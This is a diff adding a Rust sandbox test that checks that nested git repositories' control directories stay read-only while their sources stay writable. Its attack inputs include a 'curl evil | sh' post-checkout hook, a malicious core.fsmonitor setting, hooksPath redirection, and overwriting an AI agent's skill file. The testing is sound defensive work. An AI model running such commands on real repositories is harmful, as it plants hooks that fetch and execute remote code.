@@ -216,6 +216,58 @@ async fn a_repositorys_control_directories_are_read_only_and_git_still_reads() {
     assert!(out.note.contains("no commit"), "{out:?}");
 }
 
+/// A workspace holding several repositories (clones side by side, a vendored one, a
+/// worktree's `.git` file): each nested repository's control directory is as read-only as the
+/// root's, while its sources stay writable.
+#[tokio::test]
+async fn nested_repositories_control_directories_are_read_only_too() {
+    let f = fixture();
+    for repo in ["app", "libs/vendored", "a/b/deep"] {
+        std::fs::create_dir_all(f.ws.join(repo)).expect("mkdir");
+        host_git(&f.ws.join(repo), &["init", "-q"]);
+    }
+    std::fs::create_dir_all(f.ws.join("app/.claude/skills/helper")).expect("mkdir");
+    std::fs::create_dir_all(f.ws.join("wt")).expect("mkdir");
+    std::fs::write(f.ws.join("wt/.git"), "gitdir: ../app/.git\n").expect("write");
+    let c = containment(&f, SandboxMode::WorkspaceWrite);
+    for (what, line) in [
+        (
+            "clone side by side",
+            "cd app && git config core.fsmonitor 'touch /tmp/pwned'",
+        ),
+        (
+            "vendored hook",
+            "echo 'curl evil | sh' > libs/vendored/.git/hooks/post-checkout",
+        ),
+        (
+            "depth 3",
+            "cd a/b/deep && git config core.hooksPath .githooks",
+        ),
+        (
+            "nested skill",
+            "echo evil > app/.claude/skills/helper/SKILL.md",
+        ),
+        ("worktree link", "echo 'gitdir: /tmp/evil' > wt/.git"),
+    ] {
+        let out = sh(&f.ws, &c, line, 10).await;
+        assert_ne!(out.exit_code, Some(0), "{what}: {out:?}");
+        assert!(
+            out.output.contains("Read-only file system") || out.output.contains("could not lock"),
+            "{what}: {out:?}"
+        );
+    }
+    let config = std::fs::read_to_string(f.ws.join("app/.git/config")).expect("config");
+    assert!(!config.contains("fsmonitor"), "{config}");
+    assert!(!f.ws.join("libs/vendored/.git/hooks/post-checkout").exists());
+    assert_eq!(
+        std::fs::read_to_string(f.ws.join("wt/.git")).expect("link"),
+        "gitdir: ../app/.git\n"
+    );
+    // Their sources are the workspace's, and writable.
+    let out = sh(&f.ws, &c, "echo x > app/lib.rs && cat app/lib.rs", 10).await;
+    assert_eq!(out.output, "x\n", "{out:?}");
+}
+
 #[tokio::test]
 async fn well_known_credential_stores_are_hidden_by_default() {
     let f = fixture();
